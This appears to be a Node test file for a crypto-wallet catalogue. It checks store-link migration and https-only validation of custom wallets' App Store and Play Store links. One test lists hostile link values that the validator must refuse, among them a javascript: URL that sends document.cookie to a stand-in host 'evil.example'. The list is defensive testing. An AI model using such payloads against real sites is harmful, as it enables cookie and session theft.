// The catalogue's store pages (`app_store`, `play_store`): a database written before them gets them on
// its seed wallets when migrated, and a custom wallet can have them only as https pages.
import assert from 'node:assert/strict'
import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, describe, test } from 'node:test'
import { PGlite } from '@electric-sql/pglite'
import { eq, sql } from 'drizzle-orm'
import { drizzle } from 'drizzle-orm/pglite'
import { migrate } from 'drizzle-orm/pglite/migrator'
import { addWallet, CatalogueError } from '../../../server/catalogue/customWallets.ts'
import { getWallets } from '../../../server/catalogue/getWallets.ts'
import { loadConfig } from '../../../server/config.ts'
import { createDatabase, type ServiceDatabase } from '../../../server/db/database.ts'
import { wallets } from '../../../server/db/schema.ts'
import { migrationsBefore } from './migrations-helpers.ts'

const metamask = 'c57ca95b47569778a828d19178114f4db188b89b763c899ba0be274e97267d96'
const rainbow = '1ae92b26df02f0abca6304df07debccd18262fdf5fe82daa81593582dac9a369'
const trust = '4622a2b2d6af1c9844944291e5e7351a6aa24cd7b23099efac1b2fd875da31a0'
const argent = 'cf21952a9bc8108bf13b12c92443751e2cc388d27008be4201b92bbc6d83dd46'

let scratch: string
let database: ServiceDatabase

before(async () => {
  scratch = await mkdtemp(join(tmpdir(), 'store-links-migration-'))
  const pglite = new PGlite()
  const old = drizzle(pglite)
  await migrate(old, { migrationsFolder: await migrationsBefore(scratch, 16) })
  // Rows as the old seed and CLI wrote them: seed wallets, and an operator's wallet under a registry id.
  for (const [id, name, position, source] of [
    [metamask, 'MetaMask', 0, 'seed'],
    [trust, 'Trust Wallet', 1, 'seed'],
    [rainbow, 'Rainbow', 2, 'seed'],
    [argent, 'Argent (ours)', 3, 'custom'],
  ] as const) {
    await old.execute(
      sql`insert into wallets (id, name, image_id, position, source) values (${id}, ${name}, ${id}, ${position}, ${source})`,
    )
  }
  // Today's code opens it: the new migration runs (no seeding: the table is not empty anyway).
  database = await createDatabase(loadConfig({ DATA_DIR: 'memory://' }), { pglite, seed: false })
})
after(async () => {
  await database?.close()
  await rm(scratch, { recursive: true, force: true })
})

describe('store links on a database written before them', () => {
  test('behavior: the seed wallets get their App Store and Google Play pages from the registry', async () => {
    const { data } = await getWallets(database.db, { include: [metamask, trust, rainbow] })
    const byId = new Map(data.map((entry) => [entry.id, entry]))
    assert.equal(byId.get(trust)?.app_store, 'https://apps.apple.com/app/apple-store/id1288339409')
    assert.equal(
      byId.get(trust)?.play_store,
      'https://play.google.com/store/apps/details?id=com.wallet.crypto.trustapp',
    )
    assert.equal(byId.get(metamask)?.play_store, 'https://play.google.com/store/apps/details?id=io.metamask')
    // The registry has Rainbow on the App Store only.
    assert.equal(
      byId.get(rainbow)?.app_store,
      'https://apps.apple.com/us/app/rainbow-ethereum-wallet/id1457119021',
    )
    assert.equal(byId.get(rainbow)?.play_store, null)
  })

  test("behavior: an operator's own wallet is left as the operator made it", async () => {
    const [row] = await database.db.select().from(wallets).where(eq(wallets.id, argent))
    assert.equal(row?.appStore, null)
    assert.equal(row?.playStore, null)
  })
})

describe('store links of a custom wallet', () => {
  test('default: https pages are kept and served', async () => {
    const entry = await addWallet(database.db, {
      name: 'Storey Wallet',
      appStore: 'https://apps.apple.com/app/id123456789',
      playStore: 'https://play.google.com/store/apps/details?id=com.storey.wallet',
    })
    const { data } = await getWallets(database.db, { include: [entry.id] })
    assert.equal(data[0]?.app_store, 'https://apps.apple.com/app/id123456789')
    assert.equal(data[0]?.play_store, 'https://play.google.com/store/apps/details?id=com.storey.wallet')
  })

  test('error: a store link that runs script or leaves the web is refused, nothing is stored', async () => {
    const attacks = [
      { appStore: 'javascript:alert(document.cookie)//' },
      { appStore: 'JavaScript:fetch("https://evil.example/?"+document.cookie)' },
      { appStore: 'data:text/html,<script>alert(1)</script>' },
      { appStore: 'itms-apps://apps.apple.com/app/id1' },
      { playStore: 'intent://details?id=evil#Intent;scheme=market;end' },
      { playStore: 'http://play.google.com/store/apps/details?id=evil' },
    ]
    for (const attack of attacks) {
      await assert.rejects(
        addWallet(database.db, { name: 'Evil Store Wallet', ...attack }),
        (error: unknown) =>
          error instanceof CatalogueError && /link must be an https:\/\/ URL/.test(error.message),
        JSON.stringify(attack),
      )
    }
    const { count } = await getWallets(database.db, { search: 'Evil Store' })
    assert.equal(count, 0)
  })
})
